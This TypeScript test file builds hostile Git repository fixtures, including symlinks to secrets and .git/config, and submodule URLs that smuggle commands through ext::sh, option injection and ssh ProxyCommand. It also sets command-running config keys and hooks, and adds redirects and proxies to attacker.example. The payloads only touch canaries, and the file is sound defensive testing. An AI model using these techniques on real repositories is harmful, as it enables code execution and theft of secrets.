import { type Bait, page, touchCanary } from "../support/attack.ts";
import { attack, drop, file, type GitAttack, KIT, lay, link } from "../support/hostile.ts";
import type { Entry } from "../support/hostile-repository.ts";
import { followAttacks } from "./follow.ts";
import { historyAttacks } from "./git-history.ts";
import { treeAttacks } from "./git-trees.ts";

/** Section 1.9, and those of the others that are about a whole repository. */
export function gitAttacks(bait: Bait): readonly GitAttack[] {
  return [
    ...LINKS(bait),
    ...SUBMODULES(bait),
    ...CONFIGURATION(bait),
    ...treeAttacks(),
    ...historyAttacks(bait),
    ...followAttacks(bait),
  ];
}

/** Links of the file system: read them, and a file of the machine is published. */
function LINKS(bait: Bait): readonly GitAttack[] {
  const up = `${"../".repeat(14)}${bait.secret.slice(1)}`;
  return [
    attack("link-document", "a document that is a link to a file of the machine", true, (h) =>
      lay(h, KIT, link("secret.en.md", bait.secret)),
    ),
    attack("link-relative", "the same by steps upwards", true, (h) => lay(h, KIT, link("secret.en.md", up))),
    attack("link-folder", "a toolkit that is a link to a folder", true, (h) =>
      lay(h, "toolkits", link("secret", bait.secret.slice(0, bait.secret.lastIndexOf("/")))),
    ),
    attack("link-picture", "a picture that is a link, shown by a document", true, (h) =>
      lay(
        h,
        KIT,
        link("secret.png", bait.picture),
        file("picture.en.md", page("kit/picture", {}, "![x](secret.png)")),
      ),
    ),
    attack("link-service", "a service that is a link", true, (h) =>
      lay(h, `${KIT}/services`, link("secret.yaml", bait.secret)),
    ),
    attack("link-git", "a link into our own Git folder", true, (h) =>
      lay(h, KIT, link("config.en.md", "../../../../.git/config")),
    ),
    attack("link-network", "the node's description is a link", false, (h) => {
      drop(h, "", "network.yaml");
      lay(h, "", link("network.yaml", bait.secret));
    }),
    attack("link-toolkits", "all the toolkits are behind a link", null, (h) => {
      drop(h, "", "toolkits");
      lay(h, "", link("toolkits", "../../../hub/toolkits"));
    }),
    attack("executable", "a document that may be run", true, (h) =>
      lay(h, KIT, file("run.en.md", page("kit/run"), "100755")),
    ),
    attack("executable-script", "a program beside the documents", true, (h) =>
      lay(h, KIT, file("run.sh", `#!/bin/sh\n${touchCanary(bait, "git/executable-script")}\n`, "100755")),
    ),
  ];
}

/** Submodules: repositories within the repository, at addresses that run commands. */
function SUBMODULES(bait: Bait): readonly GitAttack[] {
  const module = (
    slug: string,
    url: (canary: string) => string,
    path = "sub",
    taken: boolean | null = true,
  ) =>
    attack(slug, `a submodule at ${url("…").slice(0, 40)}`, taken, (h) => {
      lay(
        h,
        "",
        file(
          ".gitmodules",
          `[submodule "${path}"]\n\tpath = ${path}\n\turl = ${url(touchCanary(bait, `git/${slug}`))}\n\tupdate = !${touchCanary(bait, `git/${slug}`)}\n`,
        ),
      );
      lay(h, "", { mode: "160000", name: "sub", content: { id: "1".repeat(40) } });
    });
  return [
    module("submodule-ext", (canary) => `ext::sh -c "${canary}"`, "sub", null),
    module("submodule-file", () => `file://${bait.secret}`, "sub", null),
    module("submodule-option", (canary) => `-u./${canary}`, "sub", null),
    module(
      "submodule-ssh",
      (canary) => `ssh://-oProxyCommand=${canary.replaceAll(" ", "%20")}/x`,
      "sub",
      null,
    ),
    module("submodule-path", () => "https://attacker.example/x.git", "../../.git/hooks", null),
    attack("submodule-document", "a submodule in the place of a document", true, (h) =>
      lay(h, KIT, { mode: "160000", name: "sub.en.md", content: { id: "1".repeat(40) } }),
    ),
  ];
}

/** Files that configure Git, in the tree and in the Git folder itself, as it comes on a stick. */
function CONFIGURATION(bait: Bait): readonly GitAttack[] {
  const touch = (slug: string) => touchCanary(bait, `git/${slug}`);
  const config = (slug: string, tries: string, text: string) =>
    attack(slug, tries, null, (h) => {
      h.later = () =>
        h.repository.file("config", `[core]\n\trepositoryformatversion = 0\n\tbare = true\n${text}`);
    });
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${"a".repeat(64)}\nsize 12\n`;
  return [
    config("config-monitor", "a monitor that runs a command", `\tfsmonitor = "${touch("config-monitor")}"\n`),
    config("config-hooks", "hooks from another folder", `\thooksPath = ${bait.canaries}\n`),
    config(
      "config-pack",
      "a command in the place of packing",
      `[uploadpack]\n\tpackObjectsHook = "${touch("config-pack")};"\n`,
    ),
    config(
      "config-alternates",
      "a command that lists other repositories",
      `\talternateRefsCommand = "${touch("config-alternates")};"\n`,
    ),
    config("config-include", "includes a file of the machine", `[include]\n\tpath = ${bait.secret}\n`),
    config(
      "config-ssh",
      "a command in the place of ssh",
      `\tsshCommand = "${touch("config-ssh")};"\n\tpager = "${touch("config-ssh")}"\n\teditor = "${touch("config-ssh")}"\n\taskPass = "${touch("config-ssh")}"\n`,
    ),
    config(
      "config-instead",
      "leads our addresses elsewhere",
      '[url "https://attacker.example/"]\n\tinsteadOf = https://\n',
    ),
    config(
      "config-proxy",
      "a proxy, and no checking of certificates",
      "[http]\n\tproxy = http://attacker.example:3128\n\tsslVerify = false\n",
    ),
    config(
      "config-extension",
      "a partial clone whose missing objects come from an address that runs a command",
      `[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = ext::sh -c "${touch("config-extension")}"\n\tpromisor = true\n`,
    ),
    attack("hooks", "hooks that run on fetching", true, (h) => {
      for (const hook of [
        "post-checkout",
        "post-update",
        "pre-receive",
        "reference-transaction",
        "pre-auto-gc",
        "post-index-change",
        "fsmonitor-watchman",
      ])
        h.repository.file(`hooks/${hook}`, `#!/bin/sh\n${touch("hooks")}\n`, 0o755);
    }),
    attack("alternates", "objects from a folder of the machine", null, (h) => {
      h.repository.file("objects/info/alternates", `${bait.canaries}\n/\n`);
    }),
    attack("attributes", "filters for every file, and endings that change the bytes", true, (h) => {
      lay(
        h,
        "",
        file(
          ".gitattributes",
          "* filter=run diff=run merge=run ident text eol=crlf working-tree-encoding=UTF-16 export-subst export-ignore\n",
        ),
      );
      lay(h, KIT, file("words.en.md", page("kit/words", {}, "Keep $Id$ and $Format:%H$.")));
    }),
    attack("large-file-pointer", "a pointer in the place of a document and of a picture", true, (h) => {
      lay(
        h,
        "",
        file(".gitattributes", "*.png filter=lfs\n"),
        file(".lfsconfig", "[lfs]\n\turl = http://127.0.0.1:1/\n"),
      );
      lay(
        h,
        KIT,
        file("pointer.en.md", pointer),
        file("pointer.png", pointer),
        file("shows.en.md", page("kit/shows", {}, "![x](pointer.png)")),
      );
    }),
    attack(
      "bare-inside",
      "a whole repository within the tree, with a monitor that runs a command",
      true,
      (h) => {
        const bare = [
          file("HEAD", "ref: refs/heads/main\n"),
          file(
            "config",
            `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "${touch("bare-inside")};"\n`,
          ),
        ];
        const folders = ["objects", "refs"].map(
          (name): Entry => ({ mode: "40000", name, content: [file(".keep", "")] }),
        );
        lay(h, "toolkits", {
          mode: "40000",
          name: "bare",
          content: [...bare, ...folders, file("toolkit.yaml", "x")],
        });
        lay(h, "", ...bare, ...folders);
      },
    ),
  ];
}
